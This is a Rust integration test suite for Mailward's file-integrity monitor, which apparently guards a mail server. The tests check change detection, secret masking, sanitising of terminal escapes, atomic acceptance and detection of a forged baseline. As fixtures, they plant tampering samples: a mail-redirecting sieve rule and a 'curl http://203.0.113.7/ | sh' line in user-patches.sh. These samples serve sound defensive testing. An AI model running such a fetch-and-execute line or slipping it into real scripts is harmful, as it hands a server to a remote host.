//! Files are changed behind Mailward's back: it is told once, shown without secrets, and over when it is accepted or undone.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod live;

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Output;
use std::time::{Duration, Instant};

use live::daemon::{Daemon, PATIENCE, Place, Said};
use serde_json::Value;

const PROGRAM: &str = env!("CARGO_BIN_EXE_mailward");

/// A place in which nothing is watched but its own folder: this machine's files change as they like.
struct Watched {
    place: Place,
}

impl Watched {
    fn new() -> Self {
        let place = Place::new(PROGRAM);
        let this = Self { place };
        let config = format!(
            "[guard]\nstate-directory = \"{}\"\nsocket = \"{}\"\n[firewall]\nenabled = false\n[never-ban]\nmynetworks = false\noperator-session = false\n\
             [audit]\nprefix = []\ncompose-file = \"none\"\n[integrity]\ninterval = \"1s\"\npaths = [\"{}\"]\n\
             ignore = [\"/etc\", \"/usr\", \"/var\", \"/root\", \"/home\", \"/lib\", \"/opt\", \"/srv\"]\n",
            this.place.state.display(),
            this.place.path("socket").display(),
            this.folder().display(),
        );
        fs::write(this.place.path("mailward.toml"), config).unwrap();
        fs::write(&this.place.log, "").unwrap();
        this.write("dovecot/sieve/before.sieve", "keep;\n");
        this.write("dovecot/sql.conf.ext", "connect = host=db password=hunter2\n");
        this.write("user-patches.sh", "#!/bin/bash\n");
        this
    }

    fn folder(&self) -> PathBuf {
        let folder = self.place.path("watched");
        fs::create_dir_all(&folder).unwrap();
        fs::canonicalize(folder).unwrap()
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.folder().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn integrity(&self, words: &[&str]) -> Output {
        let mut command = self.place.command(&["integrity"]);
        command.args(words).output().unwrap()
    }

    fn accept_all(&self) {
        let done = self.integrity(&["accept", "--yes"]);
        assert_eq!(done.status.code(), Some(0), "{}", String::from_utf8_lossy(&done.stderr));
    }

    /// What has changed, as `integrity status` tells it.
    fn report(&self) -> Value {
        let output = self.integrity(&["status", "--format", "json"]);
        serde_json::from_slice(&output.stdout)
            .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
    }

    /// The same in words.
    fn changes(&self) -> Vec<String> {
        let word = |change: &Value| {
            let path = change["path"].as_str().unwrap();
            format!("{} {}", change["what"].as_str().unwrap(), path.rsplit('/').next().unwrap())
        };
        self.report()["changes"].as_array().unwrap().iter().map(word).collect()
    }

    /// Starts the guard, and waits until it has taken its baseline.
    fn guard(&self) -> Daemon {
        let mut daemon = self.place.guard();
        let begun = daemon.hear(|said| {
            said.json["text"].as_str().is_some_and(|text| text.contains("files are watched from now on"))
        });
        assert!(begun.is_some());
        daemon
    }

    /// Waits until the guard finds this wrong, or does not any more.
    fn finds(&self, id: &str, expected: bool) {
        let deadline = Instant::now() + PATIENCE;
        while self.place.has_finding(id) != expected {
            assert!(Instant::now() < deadline, "{id} is not {expected}: {}", self.place.status()["findings"]);
            std::thread::yield_now();
        }
    }
}

/// Whether something is said about this file.
fn is_about(said: &Said, name: &str) -> bool {
    said.json["event"] == "integrity" && said.json["target"].as_str().is_some_and(|path| path.ends_with(name))
}

#[test]
fn a_changed_filter_is_told_once_and_over_when_it_is_accepted_or_undone() {
    let watched = Watched::new();
    let mut daemon = watched.guard();
    watched.finds("integrity.changed", false);
    watched.write("dovecot/sieve/before.sieve", "redirect \"thief@example.net\";\n");
    let said = daemon.hear(|said| is_about(said, "before.sieve")).expect("it is not told");
    assert_eq!(said.json["kind"], "changed");
    watched.finds("integrity.changed", true);
    // Asked again and again, it looks again and says nothing more.
    for _ in 0..3 {
        assert_eq!(watched.changes(), ["changed before.sieve"]);
    }
    // Undone: over.
    watched.write("dovecot/sieve/before.sieve", "keep;\n");
    watched.finds("integrity.changed", false);
    // The same change again is a new one.
    watched.write("dovecot/sieve/before.sieve", "redirect \"thief@example.net\";\n");
    daemon.hear(|said| is_about(said, "before.sieve")).expect("it is not told again");
    // A restart tells it not once more: what comes next is what is said next.
    daemon.terminate();
    let mut daemon = watched.place.guard();
    watched.write("user-patches.sh", "#!/bin/bash\ncurl http://203.0.113.7/ | sh\n");
    let first = daemon.hear(|said| said.json["event"] == "integrity").unwrap();
    assert!(is_about(&first, "user-patches.sh"), "{}", first.json);
    watched.finds("integrity.changed", true);
    watched.accept_all();
    watched.finds("integrity.changed", false);
    assert_eq!(watched.changes(), Vec::<String>::new());
    assert_eq!(watched.integrity(&["status"]).status.code(), Some(0));
    let more = daemon.so_far().into_iter().filter(|said| said.json["event"] == "integrity").count();
    assert_eq!(more, 0);
}

#[test]
fn one_file_is_accepted_and_the_others_stay_changed() {
    let watched = Watched::new();
    let status = |args: &[&str]| watched.integrity(args).status.code();
    // Without a baseline there is nothing to compare with.
    assert_eq!(status(&["status"]), Some(1));
    assert_eq!(status(&["accept", "/etc/passwd"]), Some(2));
    watched.accept_all();
    assert_eq!(status(&["status"]), Some(0));
    watched.write("dovecot/sieve/before.sieve", "discard;\n");
    watched.write("dovecot/sieve/new.sieve", "keep;\n");
    fs::remove_file(watched.folder().join("user-patches.sh")).unwrap();
    fs::set_permissions(watched.folder().join("dovecot"), fs::Permissions::from_mode(0o777)).unwrap();
    let all = ["changed dovecot", "changed before.sieve", "new new.sieve", "gone user-patches.sh"];
    assert_eq!(watched.changes(), all);
    // Nobody is there to answer.
    assert_eq!(status(&["accept"]), Some(2));
    assert_eq!(status(&["accept", "/no/such/file"]), Some(2));
    assert_eq!(watched.changes(), all);
    assert_eq!(status(&["accept", watched.folder().join("dovecot/sieve").to_str().unwrap()]), Some(0));
    assert_eq!(watched.changes(), ["changed dovecot", "gone user-patches.sh"]);
    assert_eq!(status(&["accept", watched.folder().join("user-patches.sh").to_str().unwrap()]), Some(0));
    assert_eq!(watched.changes(), ["changed dovecot"]);
}

#[test]
fn no_secret_is_shown_and_no_name_steers_the_terminal() {
    let watched = Watched::new();
    watched.accept_all();
    watched.write("dovecot/sql.conf.ext", "connect = host=db password=hunter3\n");
    watched.write("dovecot/new.conf.ext", "password = hunter4\nuser = x\x1b[2J\n");
    for name in [&b"a\nb.sieve"[..], b"\x1b]0;x\x07.sieve", b"\xff\xfe.sieve"] {
        fs::write(watched.folder().join(OsStr::from_bytes(name)), "keep;\n").unwrap();
    }
    for format in ["text", "json"] {
        let output = watched.integrity(&["status", "--format", format]);
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(!text.contains("hunter"), "{text}");
        assert!(!text.contains('\x1b') && !text.contains('\x07'), "{text:?}");
        assert!(text.contains("new.conf.ext"), "{text}");
    }
    let report = watched.report();
    let changes = report["changes"].as_array().unwrap();
    assert_eq!(changes.len(), 5, "{report}");
    let secret =
        changes.iter().find(|change| change["path"].as_str().unwrap().ends_with("sql.conf.ext")).unwrap();
    assert_eq!(secret["note"], "Only what is masked as a secret has changed");
    let database = fs::read(watched.place.state.join("integrity.db")).unwrap();
    assert!(!database.windows(6).any(|part| part == b"hunter"));
    assert_eq!(database.windows(3).filter(|part| *part == b"***").count(), 1);
    watched.accept_all();
    assert_eq!(watched.changes(), Vec::<String>::new());
}

#[test]
fn killed_while_it_accepts_it_has_accepted_everything_or_nothing() {
    let watched = Watched::new();
    watched.accept_all();
    let (mut before, mut after) = (0, 0);
    for round in 0..40_u64 {
        for n in 0..50 {
            watched.write(&format!("many/{n}.sieve"), &format!("# {round}\nkeep;\n"));
        }
        let expected = watched.changes().len();
        let mut child = watched
            .place
            .command(&["integrity", "accept", "--yes", "--format", "json"])
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let until = Instant::now() + Duration::from_millis(round * 4);
        while Instant::now() < until && child.try_wait().unwrap().is_none() {
            std::thread::yield_now();
        }
        let _ = child.kill();
        child.wait().unwrap();
        let report = watched.report();
        let left = report["changes"].as_array().unwrap().len();
        assert!(left == 0 || left == expected, "{left} of {expected} are left");
        assert_eq!(report["notes"].as_array().unwrap().len(), 0, "{report}");
        *(if left == 0 { &mut after } else { &mut before }) += 1;
    }
    eprintln!("killed 40 times: {before} before, {after} after");
    watched.accept_all();
    assert_eq!(watched.changes(), Vec::<String>::new());
}

#[test]
fn a_damaged_or_rewritten_baseline_is_told_by_the_command_and_by_the_guard() {
    let watched = Watched::new();
    let mut daemon = watched.guard();
    let database = watched.place.state.join("integrity.db");
    // Somebody makes his change part of the baseline.
    let connection = rusqlite::Connection::open(&database).unwrap();
    let changed = connection
        .execute("UPDATE entry SET record = replace(record, '\"mode\":420', '\"mode\":511')", [])
        .unwrap();
    drop(connection);
    assert!(changed > 0);
    let report = watched.report();
    assert!(report["notes"][0].as_str().unwrap().contains("somebody else changed the baseline"), "{report}");
    assert_eq!(watched.integrity(&["status"]).status.code(), Some(1));
    watched.finds("integrity.forged", true);

    for name in ["integrity.db-wal", "integrity.db-shm"] {
        let _ = fs::remove_file(watched.place.state.join(name));
    }
    fs::write(&database, "this is no database at all, and long enough to be looked at\n").unwrap();
    let failed = watched.integrity(&["status"]);
    assert_eq!(failed.status.code(), Some(3));
    let text = String::from_utf8(failed.stderr).unwrap();
    assert!(text.contains("is damaged") && text.contains("mailward integrity accept"), "{text}");
    watched.finds("integrity.failed", true);
    // What it says to type helps.
    fs::rename(&database, watched.place.state.join("integrity.db.damaged")).unwrap();
    watched.finds("integrity.failed", true);
    watched.accept_all();
    watched.finds("integrity.failed", false);
    watched.finds("integrity.forged", false);
    assert!(
        daemon
            .so_far()
            .iter()
            .all(|said| said.json["event"] != "integrity" || said.json["kind"] == "changed")
    );
}
